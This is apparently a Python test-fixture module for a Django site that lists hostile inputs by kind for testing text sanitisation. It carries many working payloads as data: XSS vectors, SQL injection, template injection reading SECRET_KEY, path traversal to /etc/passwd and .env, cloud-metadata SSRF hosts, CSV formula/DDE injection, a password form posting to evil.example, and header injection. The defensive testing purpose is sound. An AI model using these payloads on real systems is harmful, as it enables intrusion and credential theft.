"""What has broken other sites, by kind. Bytes, as much of it is no text; sent percent-encoded."""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

from mymovie.text import clean_line, clean_text


class Hostile(NamedTuple):
    kind: str
    raw: bytes

    @property
    def text(self) -> str:
        """As Django reads it."""
        return self.raw.decode("utf-8", "replace")

    @property
    def as_text(self) -> str:
        return clean_text(self.text)

    @property
    def as_line(self) -> str:
        return clean_line(self.text)

    def __str__(self) -> str:
        return f"{self.kind}: {self.raw[:60]!r}"


def _each(signs: str, form: str = "a{}b") -> list[str]:
    return [form.format(sign) for sign in signs]


_ZALGO = "".join(chr(0x300 + n % 0x70) for n in range(60))
_SCRIPT = "alert(document.domain)"
_HOSTS = (
    "localhost", "127.0.0.1", "[::1]", "0.0.0.0", "2130706433", "0x7f.1", "169.254.169.254", "metadata.google.internal",
    "a@b", "a:b@c", "evil.example\\@testserver", "testserver.evil.example", "xn--80ak6aa92e.com", "аррӏе.com",
    "example。com", "a..b", "-a.example", "a" * 64 + ".example", "example.com:99999", "example.com:0", "[fe80::1%25eth0]",
    "[", "exa\u00admple.com", "exam\u200bple.com", "ⓔⓧⓐⓜⓟⓛⓔ.com", "_.example", "example.com.", "%00.example", "1",
)  # fmt: skip

_TEXTS: dict[str, list[str]] = {
    "bidi": [
        *_each("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
        "\u202egnp.exe", "אב\u202ecd\u202c", "\u2067abc", "ab(ה)cd", "1-א-2",
    ],
    "invisible": [
        *_each("\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2062\u2063\u2064\u3164\uffa0\u115f\u1160\u17b4\u17b5"),
        "\u200b", "\u200d", "\u3164", "\u2800", "\ufe0f", "\U000e0061\U000e0062", "\u00a0", "\u3000", " \t ", "\u2028", "\u2029",
    ],
    "zalgo": [f"Z{_ZALGO}a{_ZALGO}", "e" + "\u0301" * 2_000, "\u0301" * 50, "ก็็็็็็็็็็็็็็", "\u20dd\u20e0a", "a\u0489b"],
    "control": [f"a{chr(code)}b" for code in (*range(32), 0x7F, *range(0x80, 0xA0))],
    "noncharacter": [f"a{chr(code)}b" for code in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0x10FFFF, 0xE000, 0xFFFD)],
    "newline": ["a\nb", "a\r\nb", "a\rb", "a\n\n\n\nb", "\n", "\r\n" * 300, "a\x0bb\x0cc", "a\x85b", "\n a", "a \n"],
    "formula": [
        *(f"{sign}{rest}" for sign in "=+-@＝＋－＠\t\r'" for rest in ("1+1", "cmd|' /C calc'!A0")),
        '=HYPERLINK("http://evil.example","x")', " =1", "\u3000=1", '"=1"', ";=1", ",=1", "-1", "''=1", "=\n1", "%0a=1",
    ],
    "markup": [
        f"<script>{_SCRIPT}</script>", f"<img src=x onerror={_SCRIPT}>", f"<svg onload={_SCRIPT}>", f"<svg/onload={_SCRIPT}>",
        f"\"><script>{_SCRIPT}</script>", f"'><script>{_SCRIPT}</script>", f"\" onmouseover={_SCRIPT} x=\"",
        f"' onfocus={_SCRIPT} autofocus x='", f"</title><script>{_SCRIPT}</script>", f"</textarea><script>{_SCRIPT}</script>",
        f"</script><script>{_SCRIPT}</script>", f"--><script>{_SCRIPT}</script>", f"]]><script>{_SCRIPT}</script>",
        f"<iframe srcdoc='<script>{_SCRIPT}</script>'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>",
        "<a href=javascript:alert(1)>a</a>", f"<details open ontoggle={_SCRIPT}>", f"<video><source onerror={_SCRIPT}>",
        f"<math><mtext></mtext><script>{_SCRIPT}</script></math>", "<style>*{display:none}</style>", "<!--", "<![CDATA[", "<?xml?>",
        f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>", "<plaintext>", "<form action=//evil.example><input name=password>",
        f"<template><script>{_SCRIPT}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={_SCRIPT}>\">",
        "&lt;script&gt;", "&#60;script&#62;", "&amp;amp;", "&nbsp", "&#0;", "&#xD800;", "\u003cscript\u003e", "＜script＞",
        f"<img src=x:x onerror\x0b={_SCRIPT}>", f"<x onclick={_SCRIPT}>a", "<object data=data:text/html,a>", "<link rel=stylesheet href=//e>",
    ],
    "script": [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "data:text/html,<script>1</script>",
        "vbscript:x", "`${alert(1)}`", "';alert(1)//", '";alert(1)//', "\\u0022;alert(1)//", "\u2028alert(1)", "__proto__", "constructor",
        "hasOwnProperty", "toString", "[object Object]", "undefined",
    ],
    "sql": [
        "' OR 1=1 --", "'; DROP TABLE accounts_user; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "%' ESCAPE '", "' UNION SELECT 1 --",
        "\\'", "\\", "\\\\", "%", "_", "%_%", "a\\%b", "' || 'a", "1/**/OR/**/1", "0x27", "$$;$$", "E'\\x00'", "{1,2}", "@@version", "; --",
    ],
    "template": [
        "{{ 7*7 }}", "{% debug %}", "{# a #}", "{{ request }}", "{{'a'|safe}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
        "{% csrf_token %}", "{{ settings.SECRET_KEY }}", "{%", "}}",
    ],
    "format": ["%s", "%n%n%n", "%(a)s", "%1$s", "{}", "{0}", "{0.__class__}", "{:>99999999}", "%d %x", "%%", "$(id)", "`id`", "$HOME", "%PATH%"],
    "path": [
        "../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "....//", "/etc/passwd", "C:\\", "file:///etc/passwd", "a/b", "/", "//", ".", "..",
        "~", "a\x00.png", "con", "nul.txt", "a" * 255, "%252e%252e", ".git/config", ".env", "a;b", "a?b#c",
    ],
    "number": [
        "0", "-0", "-1", "1.5", "1e3", "1e400", "-1e400", "NaN", "nan", "inf", "-Infinity", "2147483648", "9223372036854775808", "9" * 400,
        "-" + "9" * 30, "0x10", "0b1", "0o7", "1_000", "1,000", " 1 ", "+1", "٣", "１２", "²", "Ⅷ", "½", "۱۲", "𝟗", "1e-400", "00000001", "101",
        "4294967296", "1" + "0" * 5_000,
    ],
    "date": [
        "2024-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "99999-01-01", "-2024-01-01", "2024-13-01", "2024-02-29", "1900-02-29", "2024-1-1",
        "2024-01-01T00:00:00Z", "１９９９-01-01", "令和6年1月1日", "now", "2024-W01", "1969-12-31", "2038-01-20", "31/12/2024",
    ],
    "emoji": [
        "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇯🇵", "🇯", "❤️", "☺︎", "1️⃣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🎬" * 300, "\U0001f9d1\u200d\U0001f680", "🫠",
    ],
    "script of others": [
        "مرحبا بالعالم", "שלום עולם", "ﷺ", "ﷲ", "नमस्ते", "ไทย", "한국어", "ᄀ" * 20, "𠮷野家", "𩸽", "叱𠮟", "か\u3099", "ハ\u309aン", "ｶﾞｷﾞｸﾞ", "㍻",
        "葛󠄀城", "İstanbul", "ıi", "ßẞ", "ǆ", "ﬁlm", "Å", "Å", "Ω", "кириллица", "𝕳𝖊𝖑𝖑𝖔", "аdmin", "ｆｕｌｌ", "\ufeffBOM", "a\u200fب",
    ],
    "header": [
        "a\r\nSet-Cookie: a=b", "a\nLocation: //evil.example", "a\r\n\r\n<script>", "a%0d%0aX: y", "a\u560d\u560aX: y", "To: a@b\r\nBcc: c@d",
        "a@example.com\nBcc: b@example.com", '"a\r\nb"@example.com', "a@example.com,b@example.com", "<a@example.com>",
    ],
    "json": ["{}", "[]", "null", "true", '{"a":1}', "[" * 5_000, '{"$gt":""}', '{"__proto__":{}}', '"', "\\u0000", '{"a":1,"a":2}', "NaN"],
    "url": [
        *(f"https://{host}/" for host in _HOSTS),
        *(f"{scheme}://example.com/" for scheme in ("ftp", "file", "gopher", "ws", "chrome", "HTTP", "hTTps", "blob", "ldap", "about", "view-source")),
        "//evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example",
        "http://[::ffff:127.0.0.1]/", "https://example.com/\"><script>", "https://example.com/' onclick='a", "https://example.com/%00",
        "https://example.com/a b", "https://example.com/\u202e", "https://example.com/#javascript:1", "mailto:a@example.com", "tel:1",
        "https://" + "a" * 2_000 + ".example", "https://例え.テスト/道", "https://example.com?next=//evil.example", "https://",
    ],
    "long": ["a" * 501, "あ" * 501, "a" * 100_000, "W" * 40, "ﷺ" * 40, "<" * 300, "&" * 300, "a " * 20_000, "\n" * 5_000, "👩‍👩‍👧‍👦" * 60],
    "nothing": ["", " ", "None", "null", "nil", "false", "True", "()", "''", '""', "-", "/dev/null"],
}  # fmt: skip

_NO_TEXT: dict[str, list[bytes]] = {
    "surrogate": [b"\xed\xa0\x80", b"\xed\xbf\xbf", b"a\xed\xa0\xbd\xed\xb8\x80b", b"\xed\xb0\x80\xed\xa0\x80"],
    "overlong": [b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xc0\x80", b"\xc1\xbf", b"\xe0\x9f\xbf", b"\xc0\xbcscript\xc0\xbe"],
    "broken": [
        b"\xff", b"\xfe\xff\x00a", b"\x80", b"\xe3\x81", b"a\xf0\x9f\x98", b"\xf8\x88\x80\x80\x80", b"\xf4\x90\x80\x80", b"\xc3(",
        "日本語".encode("shift_jis"), "日本語".encode("euc_jp"), "a".encode("utf-16"), "日本語".encode("iso2022_jp"), b"+ADw-script+AD4-", b"%u0041",
    ],
}  # fmt: skip


def _all() -> Iterator[Hostile]:
    for kind, texts in _TEXTS.items():
        yield from (Hostile(kind, text.encode()) for text in dict.fromkeys(texts))
    for kind, raws in _NO_TEXT.items():
        yield from (Hostile(kind, raw) for raw in raws)


ALL = list(_all())
BY_KIND = {kind: [it for it in ALL if it.kind == kind] for kind in dict.fromkeys(it.kind for it in ALL)}


def some(turn: int, each: int = 1) -> list[Hostile]:
    """So many of each kind, others at each turn: over enough turns every one."""
    return [of[(turn * each + n) % len(of)] for of in BY_KIND.values() for n in range(min(each, len(of)))]
